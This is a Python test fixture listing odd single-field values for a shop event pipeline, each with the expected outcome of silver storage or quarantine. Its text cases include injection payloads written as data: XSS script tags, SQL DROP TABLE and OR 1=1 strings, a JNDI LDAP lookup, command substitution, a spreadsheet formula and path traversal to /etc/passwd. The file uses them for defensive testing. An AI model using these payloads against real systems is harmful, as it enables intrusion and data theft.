"""Hostile values of single fields, each with the fate that the contract gives the event.

Belongs here: events that are JSON, and odd in one field. Does not belong here: payloads that are odd as a whole
(`hostile`).
"""

from collections.abc import Mapping
from typing import Any, Literal

from shoplake_assets_tests.building import event, purchase

Fate = Literal["silver", "quarantine", "duplicate"]
Payloads = Mapping[str, tuple[bytes | None, Fate]]


def with_json(field: str, value: str | bytes, **fields: Any) -> bytes:
    """An event of which one field is this very JSON, or what is none."""
    raw = value if isinstance(value, bytes) else value.encode()
    return event(**{**fields, field: "HERE"}).replace(b'"HERE"', raw)


def of(fields: Mapping[str, Any]) -> bytes:
    """An event with fields of any name and type."""
    return event(**fields)


def _at(time: object) -> bytes:
    return event(event_time=time)


_NUMBERS: Payloads = {
    "price 1e400": (with_json("price", "1e400"), "quarantine"),
    "price 1e400 as text": (event(price="1e400"), "quarantine"),
    "price 1e-400 as text": (event(price="1e-400"), "quarantine"),
    "price 1e999999999": (with_json("price", "1e999999999"), "quarantine"),
    "price of 900 digits": (with_json("price", "1" + "0" * 900), "quarantine"),
    "price in tens": (with_json("price", "1E+1"), "silver"),
    "price in tens as text": (event(price="1e1"), "silver"),
    "price as text": (event(price=" 10.50 "), "silver"),
    "price with a third zero": (event(price="10.000"), "silver"),
    "price of a third place": (event(price="10.005"), "quarantine"),
    "price of a tenth of a cent": (with_json("price", "0.001"), "quarantine"),
    "price minus zero": (with_json("price", "-0"), "silver"),
    "price below zero": (with_json("price", "-0.01"), "quarantine"),
    "price at the top": (with_json("price", "10000000.00"), "silver"),
    "price above the top": (with_json("price", "10000000.01"), "quarantine"),
    "price with thousands": (event(price="1,000.00"), "quarantine"),
    "price with a space": (event(price="1 000"), "quarantine"),
    "price with a currency": (event(price="€ 10"), "quarantine"),
    "price in Arabic digits": (event(price="\u0661\u0662"), "quarantine"),
    "price in wide digits": (event(price="\uff11\uff12"), "quarantine"),
    "price of Java": (event(price="10d"), "quarantine"),
    "price NaN as text": (event(price="NaN"), "quarantine"),
    "price Infinity as text": (event(price="Infinity"), "quarantine"),
    "price hexadecimal as text": (event(price="0x10"), "quarantine"),
    "price empty": (event(price=""), "quarantine"),
    "price true": (event(price=True), "quarantine"),
    "price in an array": (event(price=[10]), "quarantine"),
    "price in an object": (event(price={"amount": 10}), "quarantine"),
    "price null": (event(price=None), "silver"),
    "quantity 1e0": (with_json("quantity", "1e0"), "silver"),
    "quantity 2.0": (with_json("quantity", "2.0"), "silver"),
    "quantity 1.5": (event(quantity=1.5), "quarantine"),
    "quantity as text": (event(quantity="2"), "silver"),
    "quantity 0": (event(quantity=0), "quarantine"),
    "quantity -1": (event(quantity=-1), "quarantine"),
    "quantity at the top": (event(quantity=100_000), "silver"),
    "quantity above the top": (event(quantity=100_001), "quarantine"),
    "quantity 2^31": (event(quantity=2**31), "quarantine"),
    "quantity 2^32 + 1": (event(quantity=2**32 + 1), "quarantine"),
    "quantity 2^64 + 1": (event(quantity=2**64 + 1), "quarantine"),
    "quantity true": (event(quantity=True), "quarantine"),
    "quantity in an array": (event(quantity=[1]), "quarantine"),
    "quantity null": (event(quantity=None), "silver"),
    "id of 23 digits": (of({"event_id": 10**22 + 1}), "silver"),
    # As a binary number this is infinite, and "Infinity" is not what the producer wrote.
    "id 1e400": (with_json("user_id", "1e400"), "quarantine"),
    "a number that nobody knows": (event(x="HERE").replace(b'"HERE"', b"1e400"), "silver"),
}

_TEXTS: Payloads = {
    "right to left": (event(product_name="منضدة مصباح שולחן", category="אור"), "silver"),
    "turned around": (event(product_name="\u202egnp.pmaL\u202c", product_id="\u2066p1\u2069"), "silver"),
    "emoji": (event(product_name="👩‍👩‍👧‍👦🏳️‍🌈🇺🇳", category="💡", product_id="🛒"), "silver"),
    "width of zero": (event(event_id="wide", user_id="u\u200b1\u200d\ufeff"), "silver"),
    "the same without": (event(event_id="wi\u200bde", user_id="u1"), "silver"),
    "marks upon marks": (event(product_name="L" + "\u0336\u0301" * 200 + "amp"), "silver"),
    "HTML": (purchase(product_name='<script>alert("1")</script><img onerror=alert(1)>', category="<b>"), "silver"),
    "SQL": (purchase(event_id="'; DROP TABLE lake.silver.events; --", product_id="1' OR '1'='1"), "silver"),
    "templates": (purchase(product_name="${jndi:ldap://x/a} {{7*7}} #{7*7} %s%n `id` $(id)"), "silver"),
    "formula": (purchase(product_name='=HYPERLINK("http://x")', category="@SUM(1+1)"), "silver"),
    "paths": (purchase(product_id="../../../etc/passwd", category="C:\\Windows\\..\\x"), "silver"),
    "terminal": (event(product_name="\x1b[2J\x1b]0;x\x07\x7f\r\b"), "silver"),
    "lines": (event(product_name='a\nb\r\nc\u2028d\u2029e\u0085f\t"\\', category="\n"), "silver"),
    "words of JSON": (event(event_id="null", user_id="true", product_id="NaN", product_name="{}"), "silver"),
    "JSON cut": (event(product_name='{"a": [', category="[1, 2"), "silver"),
    "quotes within quotes": (event(user_id='"Infinity"', product_name="''", category='"'), "silver"),
    "spaces around": (event(event_id=" spaced ", user_id=" u1 "), "silver"),
    "no spaces around": (event(event_id="spaced"), "silver"),
    "capitals": (event(event_id="SPACED"), "silver"),
    "shopper in capitals": (purchase(user_id="U1"), "silver"),
    "accent in one": (event(event_id="caf\u00e9", user_id="\u00e9"), "silver"),
    "accent apart": (event(event_id="cafe\u0301", user_id="e\u0301"), "silver"),
    "letters joined": (event(event_id="\ufb01g"), "silver"),
    "letters apart": (event(event_id="fig"), "silver"),
    "longest id": (event(event_id="i" * 128), "silver"),
    "longest id of emoji": (event(user_id="🛒" * 128), "silver"),
    "longest id of accents": (event(user_id="e\u0301" * 64), "silver"),
    "id too long": (event(event_id="i" * 129), "quarantine"),
    "id of accents too long": (event(user_id="e\u0301" * 65), "quarantine"),
    "id far too long": (event(event_id="i" * 100_000), "quarantine"),
    "session too long": (event(session_id="s" * 129), "quarantine"),
    "longest name": (event(product_name="💡" * 500), "silver"),
    "name too long": (event(product_name="n" * 501), "quarantine"),
    "no id": (event(event_id="").replace(b'"event_id": "e', b'"old_id": "e'), "quarantine"),
    "id empty": (with_json("event_id", '""'), "quarantine"),
    "id of white space": (event(event_id=" \t\r\n"), "quarantine"),
    "user of white space": (event(user_id="   "), "quarantine"),
    "product null": (event(product_id=None), "quarantine"),
    "id true": (with_json("event_id", "true"), "quarantine"),
    "id in an array": (with_json("event_id", '["e1"]'), "quarantine"),
    "user in an object": (event(user_id={"id": "u1"}), "quarantine"),
    "session false": (event(session_id=False), "quarantine"),
    "session null": (event(session_id=None), "silver"),
    "name in an array": (event(product_name=["Lamp"]), "quarantine"),
    "category an object": (event(category={}), "quarantine"),
    "type with a space": (event("view_item "), "quarantine"),
    "type with a NUL": (event("purchase\0"), "quarantine"),
    "type with a capital": (event("Purchase"), "quarantine"),
    "type with a Cyrillic letter": (event("\u0440urchase"), "quarantine"),
    "type in an array": (of({"event_type": ["view"]}), "quarantine"),
    "type null": (with_json("event_type", "null"), "quarantine"),
    "synonym": (event("view"), "silver"),
}

# Kafka took the records at 2026-06-01T00:00:00Z.
_TIMES: Payloads = {
    "year 1": (_at("0001-01-01T00:00:00Z"), "quarantine"),
    "before year 1": (_at("0001-01-01T00:00:00+14:00"), "quarantine"),
    "year 0": (_at("0000-01-01T00:00:00Z"), "quarantine"),
    "year -1": (_at("-0001-01-01T00:00:00Z"), "quarantine"),
    "year 1582": (_at("1582-10-10T00:00:00Z"), "quarantine"),
    "year 9999": (_at("9999-12-31T23:59:59.999999Z"), "quarantine"),
    "after year 9999": (_at("9999-12-31T23:59:59-12:00"), "quarantine"),
    "year 12026": (_at("+12026-03-01T10:00:00Z"), "quarantine"),
    "first moment": (_at("2000-01-01T00:00:00Z"), "silver"),
    "moment before it": (_at("1999-12-31T23:59:59.999999Z"), "quarantine"),
    "first moment at +14:00": (_at("2000-01-01T14:00:00+14:00"), "silver"),
    "moment before it at +14:00": (_at("2000-01-01T13:59:59+14:00"), "quarantine"),
    "first moment at -12:00": (_at("1999-12-31T12:00:00-12:00"), "silver"),
    "last moment": (_at("2026-06-01T00:15:00Z"), "silver"),
    "moment after it": (_at("2026-06-01T00:15:00.000001Z"), "quarantine"),
    "last moment at +05:30": (_at("2026-06-01T05:45:00+05:30"), "silver"),
    "moment after it at -12:00": (_at("2026-05-31T12:15:01-12:00"), "quarantine"),
    "+05:45": (_at("2026-03-01T15:45:00+05:45"), "silver"),
    "-00:00": (_at("2026-03-01T10:00:00-00:00"), "silver"),
    "+19:00, where nobody lives": (_at("2026-03-01T10:00:00+19:00"), "quarantine"),
    "+05:60": (_at("2026-03-01T10:00:00+05:60"), "quarantine"),
    "+0530": (_at("2026-03-01T10:00:00+0530"), "quarantine"),
    "lower case": (_at("2026-03-01t10:00:00z"), "silver"),
    "no zone": (_at("2026-03-01T10:00:00"), "quarantine"),
    "zone by name": (_at("2026-03-01T10:00:00[Europe/Berlin]"), "quarantine"),
    "zone by letters": (_at("2026-03-01T10:00:00CET"), "quarantine"),
    "an hour that summer time leaves out": (_at("2026-03-29T02:30:00+01:00"), "silver"),
    "an hour that comes twice": (_at("2025-10-26T02:30:00+02:00"), "silver"),
    "the same hour again": (_at("2025-10-26T02:30:00+01:00"), "silver"),
    "an hour that comes twice, and no zone": (_at("2025-10-26T02:30:00"), "quarantine"),
    "leap second": (_at("2016-12-31T23:59:60Z"), "quarantine"),
    "leap day": (_at("2024-02-29T10:00:00Z"), "silver"),
    "leap day of a hundredth year": (_at("2000-02-29T10:00:00Z"), "silver"),
    "no leap day": (_at("2025-02-29T10:00:00Z"), "quarantine"),
    "24 o'clock": (_at("2026-03-01T24:00:00Z"), "quarantine"),
    "month 13": (_at("2026-13-01T10:00:00Z"), "quarantine"),
    "day alone": (_at("2026-03-01"), "quarantine"),
    "week": (_at("2026-W09-7T10:00:00Z"), "quarantine"),
    "no seconds": (_at("2026-03-01T10:00Z"), "quarantine"),
    "spaces around a time": (_at(" 2026-03-01T10:00:00Z "), "quarantine"),
    "time of a mail": (_at("Sun, 01 Mar 2026 10:00:00 GMT"), "quarantine"),
    "time in Arabic digits": (_at("٢٠٢٦-03-01T10:00:00Z"), "quarantine"),
    "time now": (_at("now"), "quarantine"),
    "time null": (_at(None), "quarantine"),
    "time true": (_at(True), "quarantine"),
    "time in an array": (_at(["2026-03-01T10:00:00Z"]), "quarantine"),
    "second 0": (_at(0), "quarantine"),
    "second -1": (_at(-1), "quarantine"),
    "second 1": (_at("1"), "quarantine"),
    "first second": (_at(946_684_800), "silver"),
    "second before it": (_at(946_684_799), "quarantine"),
    "first millisecond": (_at(946_684_800_000), "silver"),
    "millisecond before it": (_at(946_684_799_999), "quarantine"),
    "seconds in tens": (with_json("event_time", "1.7723592E9"), "silver"),
    "microseconds": (_at(1_772_359_200_000_000), "quarantine"),
    "second 1e300": (with_json("event_time", "1e300"), "quarantine"),
    "second 1e400": (with_json("event_time", "1e400"), "quarantine"),
    "second of 900 digits": (with_json("event_time", "1" * 900), "quarantine"),
    "second 2^63": (_at(2**63), "quarantine"),
}

VALUES: Payloads = {**_NUMBERS, **_TEXTS, **_TIMES}
